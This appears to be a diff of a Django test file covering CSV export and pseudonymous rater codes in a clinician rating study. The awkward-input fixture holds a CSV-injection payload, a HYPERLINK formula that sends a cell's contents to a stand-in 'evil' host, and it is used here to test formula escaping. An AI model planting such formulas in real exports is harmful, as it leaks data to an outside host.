@@ -9,8 +9,9 @@ from django.core.management import call_command
 from django.urls import reverse
 
 from analysis import copy_export, export
-from analysis.models import RaterCode
-from annotation.models import Conversation, Rater, Rating, Responder, Response, Score
+from analysis.pseudonyms import UncodedClinician
+from annotation.models import Conversation, Rater, RaterCode, Rating, Responder, Response, Score
+from annotation.rater_codes import rater_codes_assign
 
 AWKWARD = [
     '=HYPERLINK("http://evil/?"&A1)',
@@ -59,13 +60,14 @@ def awkward_study(small_study):
                 Score(rating=rating, attribute=a, value=(i + j) % 5 + 1)
                 for j, a in enumerate(attributes[: 1 + i % 7])
             )
-    # A clinician whose name looks like a formula and who has no study code yet.
+    # A clinician whose name looks like a formula, imported (which gives their study code).
     odd = Rater.objects.create(kind=Rater.Kind.CLINICIAN, name="@dr odd")
     response = Response.objects.filter(conversation__study=study).first()
     rating = Rating.objects.create(
         rater=odd, response=response, status="complete", source="import", rationale="ok"
     )
     Score.objects.create(rating=rating, attribute=attributes[0], value=3)
+    rater_codes_assign(study_id=study.pk, rater_ids=[odd.pk])
     return small_study
 
 
@@ -93,22 +95,32 @@ def test_copy_export_is_byte_for_byte_the_python_export(awkward_study, wide, ide
     assert ("'@dr odd" in text_copy) == identified
 
 
-def test_a_clinician_without_a_code_is_coded_before_the_copy_runs(awkward_study, monkeypatch):
-    """If a clinician starts rating after the codes were handed out, the snapshot check finds
-    them and hands out a code: the name never goes out in place of a code."""
-    real = export.RaterLabels.ensure
-    calls = []
-
-    def late(self, study_id):
-        calls.append(study_id)
-        if len(calls) > 1:
-            real(self, study_id)
-
-    monkeypatch.setattr(export.RaterLabels, "ensure", late)
+def test_the_imported_clinician_goes_out_under_the_code_the_import_gave(awkward_study):
     text = "".join(export.long_csv(study=awkward_study.study))
-    assert len(calls) == 2
     odd = RaterCode.objects.get(study=awkward_study.study, rater__name="@dr odd").code
     assert f",{odd},clinician," in text and "dr odd" not in text
+
+
+@pytest.mark.parametrize("wide", [False, True], ids=["long", "wide"])
+@pytest.mark.parametrize("path", ["copy", "python"])
+def test_a_clinician_without_a_code_is_refused_and_nothing_is_written(awkward_study, wide, path):
+    """A rating stored past every door that gives codes (a bug): the export neither shows the
+    name nor hands out a code, it refuses."""
+    study = awkward_study.study
+    ghost = Rater.objects.create(kind=Rater.Kind.CLINICIAN, name="dr ghost")
+    response = Response.objects.filter(conversation__study=study).first()
+    rating = Rating.objects.create(
+        rater=ghost, response=response, status="complete", source="import", rationale="ok"
+    )
+    Score.objects.create(rating=rating, attribute=study.rubric.attributes.first(), value=3)
+    codes = RaterCode.objects.count()
+    if path == "copy":
+        write = export.wide_csv if wide else export.long_csv
+    else:
+        write = export.wide_csv_python if wide else export.long_csv_python
+    with pytest.raises(UncodedClinician, match=f"clinician rater {ghost.pk} has no study code"):
+        "".join(write(study=study))
+    assert RaterCode.objects.count() == codes
 
 
 def test_the_copy_export_yields_the_header_then_bounded_chunks(awkward_study, monkeypatch):
